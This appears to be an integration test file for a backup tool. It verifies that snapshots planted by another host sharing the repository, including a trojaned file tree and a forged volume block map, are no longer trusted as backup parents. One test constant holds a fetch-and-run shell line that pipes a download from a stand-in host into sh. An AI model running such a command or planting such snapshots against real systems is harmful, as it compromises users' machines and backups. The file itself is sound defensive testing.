"""Parent poisoning by a host that shares the repository (docs/security.md, "A host that
shares the repository"): every host holds the key, so a compromised one writes authenticated
snapshots claiming another host's name and source. A backup with no local catalog took the
newest snapshot of its source from the repository as its parent and kept every file whose
size and times matched, unread: a planted tree put a same-length trojan into the victim's
next snapshot and into `restore latest`. Now a parent from the repository is used only if
its host tag verifies with this host's secret (fs/hostsecret.py, repository/hosttag.py).

The other host is the real CLI with another XDG_CONFIG_HOME (its own host secret), or the
repository's API as its modified client would write (tests/integration/test_hostile_writer.py).
"""

from __future__ import annotations

import hashlib
import os
import shutil
import stat
import time
from pathlib import Path

import msgspec

from deltavault.backends.local import LocalBackend
from deltavault.model.content import Full
from deltavault.model.nodes import Tree
from deltavault.model.snapshot import Snapshot
from deltavault.model.types import BlobType
from deltavault.model.volume import BlockMap, VolumeManifest, decode, encode
from deltavault.objects.trees import decode_tree
from deltavault.repository.hosttag import HostTagger
from deltavault.repository.repository import Repository
from tests.conftest import PASSWORD, Cli, init_and_back_up
from tests.integration.test_cache_permissions import NOBODY, as_nobody

REAL = b"#!/bin/sh\necho the real tool, version 1\n"
TROJAN = b"#!/bin/sh\ncurl evil.example|sh  #123456\n"
assert len(TROJAN) == len(REAL)


def _repo(cli: Cli) -> Repository:
    return Repository.open(LocalBackend(cli.repo), lambda: PASSWORD, cache_root=cli.cache / "attacker")


def _latest(repo: Repository, kind: str = "files") -> tuple[str, Snapshot]:
    return [s for s in repo.list_snapshots() if s[1].kind == kind][-1]


def _plant_trojan_tree(cli: Cli) -> str:
    """The compromised host's client: the victim's newest snapshot again, a nanosecond newer,
    with the same name, source and host tag, its file `tool` holding TROJAN (same length,
    same size, times and inode as on the victim's disk)."""
    repo = _repo(cli)
    sid, snap = _latest(repo)
    assert snap.tree is not None
    top = decode_tree(repo.load_blob(snap.tree)).nodes
    assert len(top) == 1 and top[0].subtree is not None
    nodes = decode_tree(repo.load_blob(top[0].subtree)).nodes
    blob = repo.save_blob(BlobType.DATA, TROJAN)[0]
    bad = [msgspec.structs.replace(n, content=[Full(blob, len(TROJAN))], pages=None) if n.name == b"tool"
           else n for n in nodes]
    sub = repo.save_blob(BlobType.TREE, msgspec.msgpack.encode(Tree(bad)))[0]
    root = repo.save_blob(BlobType.TREE, msgspec.msgpack.encode(Tree([msgspec.structs.replace(top[0],
                                                                                               subtree=sub)])))[0]
    repo.flush()
    planted = msgspec.structs.replace(snap, tree=root, time_ns=snap.time_ns + 1, parent=sid, summary=None)
    return repo.save_snapshot(planted)


def _restored_tool(cli: Cli, tmp_path: Path, src: Path, name: str) -> bytes:
    out = tmp_path / name
    r = cli("restore", "latest", "--target", str(out))
    assert r.returncode == 0, r.stderr
    return (out / src.name / "tool").read_bytes()


def _db_backs_up(cli: Cli, tmp_path: Path) -> Path:
    src = tmp_path / "src"
    init_and_back_up(cli, src, {"tool": REAL, "other": os.urandom(5000)}, settle=True)
    return src


def test_a_parent_planted_by_another_host_is_not_trusted_and_its_trojan_not_kept(cli: Cli, tmp_path: Path) -> None:
    """The trojan scenario of security.md. db's `backup --no-cache` passes the planted
    snapshot over (the parent is db's own, whose tag verifies), and its snapshot and `restore
    latest` hold the real content. Before: the planted tree was the parent, `tool` was
    "unmodified" and the new snapshot named the trojan."""
    src = _db_backs_up(cli, tmp_path)
    planted = _plant_trojan_tree(cli)
    assert _restored_tool(cli, tmp_path, src, "before") == TROJAN  # what the attacker made latest
    r = cli("--json", "--no-cache", "backup", str(src))
    assert r.returncode == 0, r.stderr
    assert _restored_tool(cli, tmp_path, src, "after") == REAL  # before: TROJAN
    s = r.last("summary")
    assert s["parent"] != planted and s["change_source"] == "parent-trees", s
    assert [x["source"] for x in s["rejected"]] == ["parent-trees"], s
    assert "not written by this host (no valid host tag)" in s["rejected"][0]["reason"], s
    assert planted[:8] in s["rejected"][0]["reason"]
    again = _plant_trojan_tree(cli)  # now over the snapshot this run saved
    text = cli("--no-cache", "backup", str(src))
    assert f"passed over parent-trees: snapshot {again[:8]} of this source not written by this host" \
        in text.stdout, text.stdout
    assert _restored_tool(cli, tmp_path, src, "again") == REAL


def test_with_no_snapshot_of_its_own_the_run_reads_every_file(cli: Cli, tmp_path: Path) -> None:
    """db's snapshots were made by an older version or before its host secret was lost (no
    tag it can verify): the planted one is passed over, every file is read (change source
    none), and the next run without a cache uses the snapshot this one wrote."""
    src = tmp_path / "src"
    other = {"XDG_CONFIG_HOME": str(tmp_path / "lost-config")}  # the secret db had then
    assert cli("init").returncode == 0
    src.mkdir()
    (src / "tool").write_bytes(REAL)
    (src / "other").write_bytes(os.urandom(5000))
    os.utime(src / "tool", ns=(10**18, 10**18))
    os.utime(src / "other", ns=(10**18, 10**18))
    time.sleep(2.1)  # past the racy window: the next run may trust what this one saw
    assert cli("backup", str(src), env=other).returncode == 0
    planted = _plant_trojan_tree(cli)
    r = cli("--json", "--no-cache", "backup", str(src))
    s = r.last("summary")
    assert r.returncode == 0 and s["change_source"] == "none" and s["parent"] is None, s
    assert s["bytes_read"] == s["bytes_total"] == len(REAL) + 5000 and s["files_unmodified"] == 0, s
    assert planted[:8] in s["rejected"][0]["reason"] and "1 older one" in s["rejected"][0]["reason"], s
    assert "every file is read" in s["rejected"][0]["reason"], s
    assert _restored_tool(cli, tmp_path, src, "out") == REAL
    again = cli("--json", "--no-cache", "backup", str(src)).last("summary")
    assert again["change_source"] == "parent-trees" and again["parent"] == s["snapshot"], again
    assert again["bytes_read"] == 0 and again["files_unmodified"] == 2, again


def test_own_snapshots_are_still_parents_after_the_cache_is_lost(cli: Cli, tmp_path: Path) -> None:
    """The host secret lives outside the cache: with the cache removed, or --no-cache, the
    run still trusts its own snapshots and reads nothing; `tag` keeps the tag (what it binds
    is unchanged), `rewrite` drops it (a new tree)."""
    src = _db_backs_up(cli, tmp_path)
    shutil.rmtree(cli.cache)
    s = cli("--json", "backup", str(src)).last("summary")
    assert s["change_source"] == "parent-trees" and s["rejected"] == [], s
    assert s["bytes_read"] == 0 and s["files_unmodified"] == 2, s
    assert cli("tag", "--add", "kept", "latest").returncode == 0
    s = cli("--json", "--no-cache", "backup", str(src)).last("summary")
    assert s["change_source"] == "parent-trees" and s["bytes_read"] == 0 and s["rejected"] == [], s
    assert cli("rewrite", "--exclude", "other", "latest").returncode == 0
    s = cli("--json", "--no-cache", "backup", str(src)).last("summary")
    assert s["bytes_read"] == 0 and s["files_unmodified"] == 2, s  # the tagged one before the rewrite
    assert "not written by this host" in s["rejected"][0]["reason"], s
    assert s["parent"] is not None


def test_copy_drops_the_host_tag(cli: Cli, tmp_path: Path) -> None:
    """A copy lands in a repository whose id the tag's key was not derived from: it carries
    no tag (none that could verify there), and a backup into that repository without a
    catalog reads every file once instead of trusting it."""
    src = _db_backs_up(cli, tmp_path)
    pw = tmp_path / "target-password"
    pw.write_text("target password\n")
    target = {"DELTAVAULT_REPOSITORY": str(tmp_path / "target"), "DELTAVAULT_PASSWORD_FILE": str(pw),
              "DELTAVAULT_FROM_REPOSITORY": str(cli.repo), "DELTAVAULT_FROM_PASSWORD_FILE": str(cli.password_file)}
    assert _latest(_repo(cli))[1].host_tag is not None
    assert cli("init", env=target).returncode == 0
    assert cli("copy", env=target).returncode == 0
    copied = Repository.open(LocalBackend(tmp_path / "target"), lambda: b"target password", cache_root=None)
    assert [s.host_tag for _, s in copied.list_snapshots()] == [None]
    s = cli("--json", "--no-cache", "backup", str(src), env=target).last("summary")
    assert s["change_source"] == "none" and s["bytes_read"] == s["bytes_total"], s


def _mode(path: Path) -> int:
    return stat.S_IMODE(os.lstat(path).st_mode)


def test_the_host_secret_is_private_and_survives_runs(cli: Cli, tmp_path: Path, host_config: Path) -> None:
    _db_backs_up(cli, tmp_path)
    secret = host_config / "deltavault" / "host-secret"
    st = os.lstat(secret)
    assert stat.S_ISREG(st.st_mode) and st.st_uid == os.geteuid() and st.st_size == 32
    assert _mode(secret) == 0o600 and _mode(secret.parent) == 0o700
    first = secret.read_bytes()
    assert cli("backup", str(tmp_path / "src")).returncode == 0
    assert secret.read_bytes() == first and os.listdir(secret.parent) == ["host-secret"]


def test_a_host_secret_file_not_ours_alone_is_replaced_and_said(cli: Cli, tmp_path: Path,
                                                                host_config: Path) -> None:
    """A symlink (to another user's file), a file of another user, or one others may read
    is never used: it is removed, a new secret made 0600, and the run says so; the file a
    symlink pointed at is left as it was. The new secret trusts no earlier snapshot: that
    run reads every file."""
    src = _db_backs_up(cli, tmp_path)
    secret = host_config / "deltavault" / "host-secret"
    theirs = tmp_path / "theirs"
    theirs.write_bytes(b"k" * 32)
    os.chown(theirs, NOBODY, NOBODY)
    for how, plant in [("is a symbolic link", lambda: secret.symlink_to(theirs)),
                       ("owned by another user", lambda: (secret.write_bytes(b"k" * 32),
                                                          os.chown(secret, NOBODY, NOBODY))),
                       ("open to group or others", lambda: (secret.write_bytes(b"k" * 32), secret.chmod(0o644)))]:
        secret.unlink()
        plant()
        r = cli("--json", "--no-cache", "backup", str(src))
        assert r.returncode == 0, r.stderr
        s = r.last("summary")
        assert any(p["kind"] == "host secret" and how in p["message"] for p in s["problems"]), (how, s)
        assert s["change_source"] == "none" and s["bytes_read"] == s["bytes_total"], (how, s)
        st = os.lstat(secret)
        assert stat.S_ISREG(st.st_mode) and st.st_uid == os.geteuid() and _mode(secret) == 0o600, how
        assert secret.read_bytes() != b"k" * 32, how
        assert theirs.read_bytes() == b"k" * 32 and os.stat(theirs).st_uid == NOBODY
        text = cli("backup", str(src))
        assert "warning:" not in text.stdout, text.stdout  # once replaced, it is used


def test_a_host_secret_directory_another_user_holds_is_not_used(cli: Cli, tmp_path: Path,
                                                                shared_dir: Path) -> None:
    """XDG_CONFIG_HOME in a directory where others may make names (mode 1777): another user
    made `deltavault` there first, as a directory of theirs or a symlink to one. The backup
    does not use it and writes nothing there, but still backs up: it reads every file (no
    snapshot is known to be this host's), tags nothing, and says why."""
    assert cli("init").returncode == 0
    src = tmp_path / "src"
    src.mkdir()
    (src / "f").write_bytes(b"x")
    xdg = shared_dir / "xdg"
    xdg.mkdir()
    xdg.chmod(0o1777)
    env = {"XDG_CONFIG_HOME": str(xdg)}
    (shared_dir / "nobody").mkdir()
    os.chown(shared_dir / "nobody", NOBODY, NOBODY)
    for how, attack in [("owned by another user", lambda: os.mkdir(xdg / "deltavault", 0o777)),
                        ("symbolic link", lambda: os.symlink(shared_dir / "nobody", xdg / "deltavault"))]:
        as_nobody(attack)
        r = cli("--json", "--no-cache", "backup", str(src), env=env)
        assert r.returncode == 0, (how, r.returncode, r.stderr)
        s = r.last("summary")
        assert any(p["kind"] == "host secret" and how in p["message"] and "this host's secret" in p["message"]
                   and "reads every file" in p["message"] for p in s["problems"]), (how, s)
        assert s["change_source"] == "none" and s["bytes_read"] == s["bytes_total"], (how, s)
        assert "Traceback" not in r.stderr
        assert os.listdir(shared_dir / "nobody") == [] and (
            not (xdg / "deltavault").is_dir() or os.listdir(xdg / "deltavault") == []), how
        os.lstat(xdg / "deltavault")  # still theirs, not removed
        if (xdg / "deltavault").is_symlink():
            (xdg / "deltavault").unlink()
        else:
            (xdg / "deltavault").rmdir()
    repo = _repo(cli)
    snaps = [snap for _sid, snap in repo.list_snapshots()]
    assert len(snaps) == 2 and all(snap.host_tag is None for snap in snaps)


def test_a_volume_parent_planted_by_another_host_is_not_reused(cli: Cli, tmp_path: Path) -> None:
    """Volumes have the same flaw: a run reuses the parent's block references for blocks
    whose page digests match, and the parent came from the repository. A planted manifest
    with the victim's digests and a block map naming the attacker's block restored that
    block. Now the planted snapshot is passed over, the run's parent is its own."""
    img = tmp_path / "disk.img"
    data = os.urandom(1 << 20)
    img.write_bytes(data)
    assert cli("init").returncode == 0
    assert cli("backup", "--volume", str(img), "--block-size", "64K").returncode == 0
    repo = _repo(cli)
    sid, snap = _latest(repo, "volume")
    assert snap.volume is not None
    man = decode(repo.load_blob(snap.volume), VolumeManifest, "manifest")
    bmap = decode(repo.load_blob(man.segments[0].map), BlockMap, "map")
    evil = os.urandom(64 << 10)
    bad = msgspec.structs.replace(bmap, refs=[Full(repo.save_blob(BlobType.DATA, evil)[0], len(evil)),
                                              *bmap.refs[1:]])
    seg = msgspec.structs.replace(man.segments[0], map=repo.save_blob(BlobType.META, encode(bad))[0])
    vol = repo.save_blob(BlobType.META, encode(msgspec.structs.replace(man, segments=[seg, *man.segments[1:]])))[0]
    repo.flush()
    attacker = HostTagger(os.urandom(32), repo.config.id)  # the other host's own tag
    planted = repo.save_snapshot(attacker.sign(msgspec.structs.replace(snap, volume=vol, time_ns=snap.time_ns + 1,
                                                                       summary=None)))
    r = cli("--json", "--no-cache", "backup", "--volume", str(img), "--block-size", "64K")
    assert r.returncode == 0, r.stderr
    s = r.last("summary")
    out = tmp_path / "out.img"
    assert cli("restore", "--volume", s["snapshot"], str(out)).returncode == 0
    assert hashlib.sha256(out.read_bytes()).digest() == hashlib.sha256(data).digest()  # before: evil
    assert s["parent"] == sid, s
    assert any(planted[:8] in x["reason"] and "not written by this host" in x["reason"] for x in s["rejected"]), s
